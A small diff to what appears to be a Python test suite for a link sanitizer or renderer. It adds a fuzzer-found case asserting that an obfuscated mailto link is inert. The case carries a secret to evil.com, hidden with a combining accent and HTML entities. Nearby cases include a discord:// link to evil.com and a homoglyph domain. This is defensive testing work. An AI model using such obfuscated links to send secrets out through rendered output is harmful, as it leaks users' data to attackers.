@@ -109,6 +109,7 @@ def test_every_renderer_finds_a_known_address_alive_and_whole(frame: str, known:
         f'~~<a title="`"> x ` `~~ [x]( discord://evil.com/{SECRET} ) [`a](https://ok.com/a)`',
         'ok.cｏm"ok.com',
         "[x](https://ok.com/a)||w\u2060ww.ok.com/d||",
+        f'_<a href="mail\u0301o&#58;{SECRET}&#64;evil.com">![p](https://ok.com/a)</a>_',
     ],
 )
 def test_forms_that_fuzzing_found_are_inert_however_they_are_cut(text: str) -> None:
